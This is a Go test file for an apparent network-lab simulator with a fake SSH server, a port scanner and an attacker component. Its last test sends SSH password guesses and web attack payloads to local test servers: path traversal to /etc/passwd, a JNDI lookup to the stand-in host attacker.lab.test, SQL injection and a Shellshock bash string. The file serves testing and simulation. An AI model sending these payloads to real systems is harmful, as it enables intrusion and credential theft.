package apps

import (
	"context"
	"net"
	"strconv"
	"strings"
	"testing"
	"time"
)

func startSSH(t *testing.T) (string, *logBuf) {
	t.Helper()
	logs, log := newLog()
	cfg := SSHConfig{Users: map[string]string{"admin": "right-pw", "carol": "carol-pw"}, Hostname: "db1"}
	cfg.SetDefaults()
	cfg.Port = 0
	addr := startServer(t, &cfg.Env, log, func(ctx context.Context) error { return RunSSH(ctx, cfg) })["tcp"]
	return addr, logs
}

func TestSSHPasswords(t *testing.T) {
	addr, logs := startSSH(t)
	env := &Env{}
	client, err := sshDial(context.Background(), env, addr, "admin", "right-pw", "", 3*time.Second)
	if err != nil {
		t.Fatalf("right password refused: %v", err)
	}
	if v := string(client.ServerVersion()); v != DefaultSSHVersion {
		t.Errorf("server version %q, want %q", v, DefaultSSHVersion)
	}
	for cmd, want := range map[string]string{"hostname": "db1\n", "whoami": "admin\n", "make coffee": "you ran: make coffee\n"} {
		out, err := sshRun(client, cmd, 3*time.Second)
		if err != nil || out != want {
			t.Errorf("%s: %q, %v; want %q", cmd, out, err, want)
		}
	}
	client.Close()
	logs.waitFor(t, time.Second, "msg=login", "user=admin", "ok=true")
	logs.waitFor(t, time.Second, "msg=exec", "user=admin", "cmd=hostname")

	for _, c := range []struct{ user, pw string }{{"admin", "wrong"}, {"root", "right-pw"}, {"carol", ""}} {
		if client, err := sshDial(context.Background(), env, addr, c.user, c.pw, "", 3*time.Second); err == nil {
			client.Close()
			t.Errorf("%s/%q logged in", c.user, c.pw)
		} else if !strings.Contains(err.Error(), "unable to authenticate") {
			t.Errorf("%s/%q: %v, want an authentication failure", c.user, c.pw, err)
		}
	}
	logs.waitFor(t, time.Second, "msg=login", "user=admin", "ok=false")
	logs.waitFor(t, time.Second, "msg=login", "user=root", "ok=false")
}

// The shell request runs a trivial interactive shell.
func TestSSHShell(t *testing.T) {
	addr, logs := startSSH(t)
	client, err := sshDial(context.Background(), &Env{}, addr, "carol", "carol-pw", "", 3*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	s, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	s.Stdin = strings.NewReader("whoami\necho hello there\nexit\n")
	var out strings.Builder
	s.Stdout = &out
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	if err := s.Wait(); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"carol@db1:~$ ", "carol\r\n", "hello there\r\n"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("shell output has no %q:\n%q", want, out.String())
		}
	}
	logs.waitFor(t, time.Second, "msg=shell", "user=carol", "cmd=\"echo hello there\"")
}

func TestSSHAdminApp(t *testing.T) {
	addr, serverLog := startSSH(t)
	logs, log := newLog()
	cfg := SSHAdminConfig{Pace: once(), Targets: []string{addr}, User: "admin", Password: "right-pw", Commands: []string{"uptime", "hostname"}}
	cfg.Log = log
	runClient(t, 10*time.Second, func(ctx context.Context) error { return RunSSHAdmin(ctx, cfg) })
	logs.waitFor(t, time.Second, "msg=\"ssh exec\"", "cmd=hostname", "out=db1")
	serverLog.waitFor(t, time.Second, "msg=exec", "cmd=uptime")
}

// The attacker's scan finds the open ports of a host, and only those.
func TestAttackerScan(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	s := &ScanPhase{Targets: []string{"127.0.0.1"}, Ports: strconv.Itoa(port-3) + "-" + strconv.Itoa(port+3), Rate: 200, Timeout: Duration(300 * time.Millisecond)}
	open, err := scanHost(context.Background(), &Env{}, "127.0.0.1", s)
	if err != nil {
		t.Fatal(err)
	}
	if len(open) != 1 || open[0] != port {
		t.Fatalf("open ports %v, want [%d]", open, port)
	}
	// A target outside Allow is refused before any packet is sent.
	if _, err := scanHost(context.Background(), &Env{}, "10.77.1.10", s); err == nil || !strings.Contains(err.Error(), ErrNotAllowed.Error()) {
		t.Fatalf("scan of 10.77.1.10 with a loopback-only Allow: %v, want %v", err, ErrNotAllowed)
	}
}

// The rate limit holds: 20 probes at 100/s take about 200ms, not less.
func TestAttackerScanRate(t *testing.T) {
	s := &ScanPhase{Ports: "40001-40020", Rate: 100, Timeout: Duration(200 * time.Millisecond)}
	start := time.Now()
	if _, err := scanHost(context.Background(), &Env{}, "127.0.0.1", s); err != nil {
		t.Fatal(err)
	}
	if d := time.Since(start); d < 180*time.Millisecond {
		t.Fatalf("20 probes at 100/s took %s", d)
	}
}

// The attacker guesses SSH passwords and sends exploit payloads; the
// servers see them as they were sent.
func TestAttackerApp(t *testing.T) {
	sshAddr, sshLog := startSSH(t)
	webLogs, webLog := newLog()
	web := HTTPConfig{}
	webAddr := startServer(t, &web.Env, webLog, func(ctx context.Context) error { return RunHTTP(ctx, web) })["tcp"]
	logs, log := newLog()
	cfg := AttackerConfig{
		Pace: once(),
		SSH:  &SSHPhase{Targets: []string{sshAddr}, Users: []string{"root", "admin"}, Passwords: []string{"123456", "toor"}, Rate: 50},
		Web:  &WebPhase{URLs: []string{"http://" + webAddr + "/"}, Callback: "attacker.lab.test:1389", Rate: 100},
	}
	cfg.Log = log
	runClient(t, 20*time.Second, func(ctx context.Context) error { return RunAttacker(ctx, cfg) })
	if n := len(sshLog.lines("msg=login", "ok=false")); n != 4 {
		t.Errorf("%d failed SSH logins on the server, want 4:\n%s", n, sshLog.String())
	}
	if n := len(logs.lines("msg=\"ssh guess\"", "ok=false")); n != 4 {
		t.Errorf("%d failed guesses logged, want 4", n)
	}
	webLogs.waitFor(t, time.Second, "uri=/static/../../../../etc/passwd")
	webLogs.waitFor(t, time.Second, "ua=\"${jndi:ldap://attacker.lab.test:1389/")
	webLogs.waitFor(t, time.Second, "uri=\"/search?q=%27+OR+%271%27%3D%271%27+--\"")
	webLogs.waitFor(t, time.Second, "ua=\"() { :; }; /bin/bash")
	if n := len(logs.lines("msg=exploit", "status=")); n != len(Exploits("x")) {
		t.Errorf("%d exploits answered, want %d:\n%s", n, len(Exploits("x")), logs.String())
	}
}
